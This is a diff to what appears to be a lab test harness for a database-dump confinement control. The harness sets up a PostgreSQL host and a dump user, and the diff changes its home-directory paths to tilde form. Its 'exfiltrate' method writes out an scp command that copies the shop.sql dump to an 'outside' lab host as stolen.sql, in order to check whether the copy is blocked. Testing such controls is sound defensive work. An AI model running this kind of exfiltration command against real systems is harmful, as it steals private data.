@@ -18,13 +18,13 @@ BACKUP_HOST, ELSEWHERE = "192.168.157.11", "192.168.157.200"  # web1, and outsid
 DUMP = "/srv/dumps/shop.sql"
 SENSITIVE = {"shop": ["/var/lib/postgresql/**", "/srv/dumps/**"]}
 SECONDS = 480  # of observing; the workload goes on all the while, and has to be done once within
-SSH = "-q -B -o StrictHostKeyChecking=accept-new -o ConnectTimeout=60 -i /home/dumper/.ssh/id_ed25519"
+SSH = "-q -B -o StrictHostKeyChecking=accept-new -o ConnectTimeout=60 -i ~dumper/.ssh/id_ed25519"
 
 PREPARE = """
 set -e
 id dumper >/dev/null 2>&1 || useradd -m -s /bin/bash dumper
-install -d -m 0700 -o dumper -g dumper /srv/dumps /home/dumper/.ssh
-[ -e /home/dumper/.ssh/id_ed25519 ] || runuser -u dumper -- ssh-keygen -q -t ed25519 -N '' -f /home/dumper/.ssh/id_ed25519
+install -d -m 0700 -o dumper -g dumper /srv/dumps ~dumper/.ssh
+[ -e ~dumper/.ssh/id_ed25519 ] || runuser -u dumper -- ssh-keygen -q -t ed25519 -N '' -f ~dumper/.ssh/id_ed25519
 pg_lsclusters -h | grep -q '^15 *main ' || pg_createcluster 15 main --start-conf=manual --locale C.UTF-8 -- --no-sync >/dev/null
 printf 'shared_buffers = 16MB\\nmax_connections = 20\\nlisten_addresses = \\047\\047\\n' >/etc/postgresql/15/main/conf.d/lab.conf
 systemctl start postgresql@15-main.service
@@ -33,16 +33,16 @@ runuser -u postgres -- psql -qAt -c "select 1 from pg_roles where rolname = 'dum
     runuser -u postgres -- psql -q -c "create role dumper login in role pg_read_all_data"
 runuser -u postgres -- psql -qAt -c "select 1 from pg_database where datname = 'shop'" | grep -q 1 ||
     { runuser -u postgres -- createdb shop; runuser -u postgres -- pgbench -q -i -s 1 shop >/dev/null 2>&1; }
-cat /home/dumper/.ssh/id_ed25519.pub
+cat ~dumper/.ssh/id_ed25519.pub
 """
 RECEIVE = """
 set -e
 id vault >/dev/null 2>&1 || useradd -m -s /bin/sh vault
-install -d -m 0700 -o vault -g vault /home/vault/.ssh
-cat >/home/vault/.ssh/authorized_keys
-chown vault: /home/vault/.ssh/authorized_keys
-chmod 0600 /home/vault/.ssh/authorized_keys
-rm -f /home/vault/*.sql
+install -d -m 0700 -o vault -g vault ~vault/.ssh
+cat >~vault/.ssh/authorized_keys
+chown vault: ~vault/.ssh/authorized_keys
+chmod 0600 ~vault/.ssh/authorized_keys
+rm -f ~vault/*.sql
 """
 REMOVE = """
 systemctl stop postgresql@15-main.service
@@ -88,14 +88,14 @@ class Shop:
                 ("dumper", "scp %s %s vault@%s:shop.sql" % (SSH, DUMP, BACKUP_HOST))):
             code, text = self.as_user(user, command)
             assert code == 0, "{0} as {1} ended with {2}:\n{3}".format(command, user, code, text)
-        sent, there = self.lab.ssh("db1", "sudo sha256sum " + DUMP), self.lab.ssh("web1", "sudo sha256sum /home/vault/shop.sql")
+        sent, there = self.lab.ssh("db1", "sudo sha256sum " + DUMP), self.lab.ssh("web1", "sudo sha256sum ~vault/shop.sql")
         assert sent.split()[0] == there.split()[0]
 
     def exfiltrate(self):
         """The same user, the same program, another machine. Whether the dump is there."""
-        self.lab.ssh("outside", "sudo rm -f /home/vault/stolen.sql")
+        self.lab.ssh("outside", "sudo rm -f ~vault/stolen.sql")
         self.as_user("dumper", "scp %s %s vault@%s:stolen.sql" % (SSH, DUMP, ELSEWHERE))
-        return self.lab.ssh("outside", "sudo test -s /home/vault/stolen.sql && echo there || echo nothing") == "there"
+        return self.lab.ssh("outside", "sudo test -s ~vault/stolen.sql && echo there || echo nothing") == "there"
 
     def read_by_another_program(self):
         return self.as_user("dumper", "head -c 1 %s >/dev/null" % DUMP)[0] == 0
